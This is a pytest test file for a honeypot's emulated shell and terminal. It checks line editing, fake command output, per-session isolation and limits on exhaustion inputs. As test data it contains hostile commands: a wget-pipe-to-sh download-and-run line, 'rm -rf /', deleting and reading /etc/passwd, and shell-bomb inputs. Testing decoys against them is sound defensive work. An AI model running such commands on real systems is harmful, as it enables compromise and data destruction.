"""The decoys' shell and its terminal, on any keys and lines."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.decoys.shell.host import Host
from decnet.decoys.shell.parse import LINE_MOST, ShellSyntaxError, parse
from decnet.decoys.shell.shell import OUTPUT_MOST, Shell
from decnet.decoys.terminal import LineEditor
from tests.unit.test_decoy_protocols import NOW


@pytest.mark.parametrize(
    ("keys", "lines", "echo"),
    [
        (b"id\r", ["id"], b"id\r\n"),
        (b"id\r\nw\n", ["id", "w"], b"id\r\nw\r\n"),
        (b"ix\x7fd\r", ["id"], b"ix\b \bd\r\n"),
        (b"\x7f\x7fid\r", ["id"], b"id\r\n"),
        (b"abc\x15id\r", ["id"], b"abc" + b"\b \b" * 3 + b"id\r\n"),
        (b"ls -la\x17/\r", ["ls /"], b"ls -la" + b"\b \b" * 3 + b"/\r\n"),
        ("é\x7fe\r".encode(), ["e"], b"\xc3\xa9\b \be\r\n"),
        (b"i\x1b[A\x1b[1;5Cd\x1bOA\r", ["id"], b"id\r\n"),
        (b"abc\x03id\r", ["", "id"], b"abc^C\r\nid\r\n"),
        (b"\x04", [None], b""),
        (b"a\x04\r", ["a"], b"a\r\n"),
        (b"\x00\x01\x1aid\r", ["id"], b"id\r\n"),
    ],
)
def test_terminal_edits_a_line(keys: bytes, lines: list[str | None], echo: bytes) -> None:
    typed = LineEditor(echoes=True).feed(keys)
    assert (typed.lines, typed.echo) == (lines, echo)
    # The same, key by key.
    editor, found, echoed = LineEditor(echoes=True), [], b""
    for at in range(len(keys)):
        one = editor.feed(keys[at : at + 1])
        found += one.lines
        echoed += one.echo
    assert (found, echoed) == (lines, echo)


def test_terminal_without_echo_cuts_lines_only() -> None:
    typed = LineEditor(echoes=False).feed(b"one\ntwo\x7f\r\nthr")
    assert (typed.lines, typed.echo) == (["one", "two\x7f"], b"")


@given(st.binary(max_size=300))
def test_terminal_takes_any_keys(keys: bytes) -> None:
    editor = LineEditor(echoes=True)
    for line in editor.feed(keys).lines:
        assert line is None or len(line) <= 4096
    assert len(editor.partial) <= 4096


def test_terminal_line_has_an_end() -> None:
    typed = LineEditor(echoes=True).feed(b"a" * 100_000 + b"\r")
    assert typed.lines == ["a" * 4096]


def shell(user: str = "root") -> Shell:
    return Shell(Host("decky-01"), user, clock=lambda: NOW, remote="192.0.2.7")


@pytest.mark.parametrize(
    ("line", "output"),
    [
        ("whoami", "root\n"),
        ("id -u", "0\n"),
        ("/usr/bin/id -u", "0\n"),
        ("hostname; pwd", "decky-01\n/root\n"),
        ("false && echo no || echo yes", "yes\n"),
        ("true || echo no", ""),
        ("cat /etc/passwd | grep root | wc -l", "1\n"),
        ("echo 'a  b' \"c $USER\" d\\ e $NOTHING${HOME}", "a  b c root d e /root\n"),
        ("echo -e 'a\\x41\\n'", "aA\n\n"),
        ("echo -n x", "x"),
        ("X=1; echo $X", "1\n"),
        ("echo hi > /tmp/x && cat /tmp/x && echo ho >> /tmp/x; cat < /tmp/x", "hi\nhi\nho\n"),
        ("cd /tmp; pwd; cd; pwd", "/tmp\n/root\n"),
        ("cd /nowhere", "-bash: cd: /nowhere: No such file or directory\n"),
        ("nosuchthing", "-bash: nosuchthing: command not found\n"),
        ("./x", "-bash: ./x: No such file or directory\n"),
        ("cat /nope", "cat: /nope: No such file or directory\n"),
        ("cat /nope 2>/dev/null; echo $?", "1\n"),
        ("cat /nope > /tmp/o 2>&1; cat /tmp/o", "cat: /nope: No such file or directory\n"),
        ("mkdir /tmp/a && touch /tmp/a/b; ls /tmp/a; rm -rf /tmp/a; ls /tmp", "b\n"),
        ("rm -rf /; ls /", ""),
        ("sh -c 'echo a; echo b'", "a\nb\n"),
        ("sudo id -un", "root\n"),
        ("echo 'echo in' | sh", "in\n"),
        ("# nothing", ""),
        ("echo a # b\necho c", "a\nc\n"),
        ("uname -rs", "Linux 6.1.0-18-amd64\n"),
        ("uname -Z", "uname: invalid option -- 'Z'\n"),
        ("echo 'open", "-bash: unexpected EOF while looking for matching `''\n"),
        ("", ""),
    ],
)
def test_shell_answers(line: str, output: str) -> None:
    assert shell().run(line) == output


@pytest.mark.parametrize(
    "line", ["uname -a", "ps aux", "free -m", "df -h", "w", "ip a", "ls -la /", "history", "env"]
)
def test_shell_answers_something_to_what_attackers_try_first(line: str) -> None:
    one = shell()
    assert one.run(line)
    assert one.status == 0


def test_shell_knows_the_user_it_is() -> None:
    one = shell("admin")
    assert one.prompt == "admin@decky-01:~$ "
    assert one.run("id") == "uid=1000(admin) gid=1000(admin) groups=1000(admin)\n"
    assert shell().prompt == "root@decky-01:~# "
    one.run("cd /var/log")
    assert one.prompt == "admin@decky-01:/var/log$ "


def test_shell_exits_with_the_status_asked_for() -> None:
    one = shell()
    assert one.run("echo a; exit 3; echo b") == "a\n"
    assert (one.is_over, one.status) == (True, 3)


def test_shell_notes_what_was_to_be_fetched() -> None:
    one = shell()
    out = one.run("cd /tmp; wget -q http://192.0.2.66/x.sh -O- | sh; curl -O ftp://a.example/b")
    assert one.downloads == ["http://192.0.2.66/x.sh", "ftp://a.example/b"]
    assert "timed out" in out


def test_shell_sessions_do_not_see_each_other() -> None:
    one, two = shell(), shell()
    one.run("echo x > /tmp/mine; rm /etc/passwd")
    assert two.run("cat /tmp/mine") == "cat: /tmp/mine: No such file or directory\n"
    assert two.run("cat /etc/passwd").startswith("root:")


@pytest.mark.parametrize(
    "lines",
    [
        ["A=aaaaaaaaaaaaaaaa", *["A=$A$A$A$A"] * 20, "echo $A"],
        ["echo x > a", *["cat a a a a a a a a > b; cp b a"] * 20, "cat a"],
        ["echo 'cat s | sh; cat s | sh; cat s | sh' > s", "cat s | sh"],
        ["sh -c " * 3000],
        ["echo " + "a" * 100_000],
        ["; " * 50_000],
        ["$" * 8000],
        ['"' * 8001],
        ["cat " + "/proc/cpuinfo " * 2000],
    ],
)
def test_shell_cannot_be_made_to_grow(lines: list[str]) -> None:
    one = shell()
    began = time.process_time()
    for line in lines:
        assert len(one.run(line)) <= OUTPUT_MOST
    used = sum(len(v) for v in one.variables.values())
    assert used < 1 << 20
    assert time.process_time() - began < 20, "not a measurement: a bomb would take for ever"


@given(st.text(max_size=200))
def test_shell_takes_any_line(line: str) -> None:
    assert len(shell().run(line)) <= OUTPUT_MOST


@given(st.text(st.sampled_from("ab '\"\\$;|&><#\n{}"), max_size=60))
def test_shell_parses_any_line(line: str) -> None:
    try:
        pipelines = list(parse(line, {"a": "b"}))
    except ShellSyntaxError:
        return
    assert all(pipeline.commands for pipeline in pipelines)
    assert len(line) <= LINE_MOST
